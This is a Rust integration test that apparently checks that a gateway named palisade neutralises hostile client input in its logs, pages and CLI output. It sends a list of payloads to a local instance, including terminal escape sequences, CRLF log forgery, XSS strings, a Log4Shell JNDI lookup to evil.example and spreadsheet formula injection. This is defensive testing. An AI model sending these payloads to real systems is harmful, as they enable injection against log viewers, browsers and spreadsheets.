//! What a client sends is text to whoever reads it: logs, reports, terminals and pages. Threat 34.

use std::net::SocketAddr;
use std::process::Command;

use anyhow::{Context as _, Result, ensure};
use palisade_test::palisade::run;
use palisade_test::upstream::Reply;
use palisade_test::{Process, Upstream, Wire, paths};

use crate::support::{SOON, written_policy};

/// For terminals, log viewers, spread sheets and pages.
const PAYLOADS: [&str; 32] = [
    "\u{1b}[2J\u{1b}[H",
    "\u{1b}]0;owned\u{7}",
    "\u{1b}]8;;https://evil.example\u{7}here\u{1b}]8;;\u{7}",
    "\u{9b}31m",
    "\u{9d}0;owned\u{9c}",
    "\u{90}q\u{9c}",
    "\u{8}\u{8}\u{8}\u{8}",
    "\u{7f}",
    "\0",
    "\r200 OK",
    "\n{\"event\":\"access\",\"status\":200}",
    "\r\n{\"event\":\"server.ready\"}",
    "%0d%0a{\"event\":\"access\"}",
    "\u{2028}{\"event\":\"access\"}",
    "\u{2029}12:00:00.000 GET /",
    "\u{85}12:00:00.000 INFO",
    "\u{b}\u{c}",
    "\u{202e}txt.exe",
    "\u{2066}a\u{2069}",
    "\u{feff}",
    "\",\"user\":\"admin",
    "\\",
    "\\u001b[31m",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "javascript:alert(1)",
    "{{7*7}}",
    "${jndi:ldap://evil.example/a}",
    "=cmd|'/c calc'!A0",
    "+1+1",
    "@SUM(1)",
    "%s%n%x",
];

/// Whether a terminal or a viewer of lines acts on it instead of showing it.
fn acts(character: char) -> bool {
    character.is_control() && character != '\n'
        || matches!(character, '\u{200e}' | '\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{feff}')
}

fn quiet(what: &str, text: &str) -> Result<()> {
    let line = text.lines().find(|line| line.chars().any(acts));
    ensure!(line.is_none(), "{what}: {:?}", line.unwrap_or_default());
    Ok(())
}

#[tokio::test]
async fn what_a_client_sends_is_only_ever_text() -> Result<()> {
    let upstream = Upstream::answering(|_| Reply::text("fine")).await?;
    for format in ["json", "pretty"] {
        // By hand: the kit reads JSON.
        let folder = tempfile::tempdir()?;
        let policy = format!("{}\n[log]\nformat = \"{format}\"\n", written_policy(&upstream.url(), ""));
        std::fs::write(folder.path().join("palisade.toml"), policy)?;
        let port = palisade_test::ports::free()?;
        let mut command = Command::new(paths::binary()?);
        command.args(["serve", "--https-port", "0", "--admin-port", "0", "--http-port", &port.to_string()]);
        command.current_dir(folder.path());
        let gateway = Process::spawn(command)?;
        let ready = |line: &palisade_test::Line| line.text.contains("server.ready").then_some(());
        gateway.output().find(SOON, "that it is ready", ready).await?;
        let (mut answers, mut refused) = (0, Vec::new());
        for payload in PAYLOADS {
            let escaped: String = payload.bytes().map(|byte| format!("%{byte:02X}")).collect();
            for request in [
                format!("GET /x HTTP/1.1\r\nHost: localhost\r\nX-Request-Id: {payload}\r\n\r\n"),
                format!("GET /x HTTP/1.1\r\nHost: localhost\r\nUser-Agent: {payload}\r\nReferer: {payload}\r\n\r\n"),
                format!("GET /x HTTP/1.1\r\nHost: localhost\r\nX{payload}: y\r\n\r\n"),
                format!("GET /x HTTP/1.1\r\nHost: {payload}\r\n\r\n"),
                format!("GET /{payload} HTTP/1.1\r\nHost: localhost\r\n\r\n"),
                format!("GET /{escaped} HTTP/1.1\r\nHost: localhost\r\n\r\n"),
                format!("GET /.env{escaped}?a={escaped} HTTP/1.1\r\nHost: localhost\r\n\r\n"),
                format!("GET /.git/?{payload} HTTP/1.1\r\nHost: localhost\r\nAccept: text/html\r\n\r\n"),
                format!("{payload} /x HTTP/1.1\r\nHost: localhost\r\nAccept: text/html\r\n\r\n"),
                format!("GET /x HTTP/1.1\r\nHost: localhost\r\nExpect: {payload}\r\n\r\n"),
            ] {
                let mut wire = Wire::plain(SocketAddr::from(([127, 0, 0, 1], port))).await?;
                let answer = wire.ask(&request).await.with_context(|| format!("{request:?}"))?;
                answers += 1;
                let id = answer.header("x-request-id").context("no id")?;
                ensure!(id.len() == 26 && id.bytes().all(|byte| byte.is_ascii_alphanumeric()), "{request:?}: {id:?}");
                let text = answer.text();
                quiet(&request, &text)?;
                ensure!(payload.len() < 3 || !text.contains(payload), "{request:?} is in {text}");
                if answer.status() >= 400 {
                    refused.push(id.to_owned());
                }
            }
        }
        // One of each kind is enough: each is a command of its own.
        let mut shown = Vec::new();
        for id in refused.iter().step_by(7) {
            shown.push(vec!["explain", id]);
            shown.push(vec!["--json", "explain", id]);
        }
        shown.extend([vec!["report"], vec!["--json", "report"], vec!["status"], vec!["--json", "status"]]);
        for arguments in &shown {
            let ran = run(folder.path(), arguments).await?;
            ensure!(ran.code == Some(0), "{arguments:?}: {}", ran.err);
            quiet(&format!("{arguments:?}"), &ran.out)?;
        }
        gateway.stop(SOON).await?;
        gateway.output().closed(SOON).await?;
        let all = gateway.output().everything()?;
        quiet(format, &all)?;
        let access = if format == "json" {
            let lines: Vec<serde_json::Value> =
                all.lines().map(|line| serde_json::from_str(line).context(line.to_owned())).collect::<Result<_>>()?;
            ensure!(lines.iter().all(|line| line["user"].is_null()), "a user was made up");
            lines.iter().filter(|line| line["event"] == "access").count()
        } else {
            // Each line begins with the time, and with ours only.
            let stray = all.lines().find(|line| {
                let time = line.get(..12).unwrap_or_default();
                !(time.len() == 12 && time.as_bytes()[2] == b':' && time.as_bytes()[8] == b'.')
            });
            ensure!(stray.is_none(), "{stray:?}");
            all.lines().filter(|line| line.contains(" client=") && line.contains(" ms  ")).count()
        };
        ensure!(access == answers, "{format}: {access} lines for {answers} answers");
        ensure!(refused.len() > 100, "{}", refused.len());
    }
    Ok(())
}
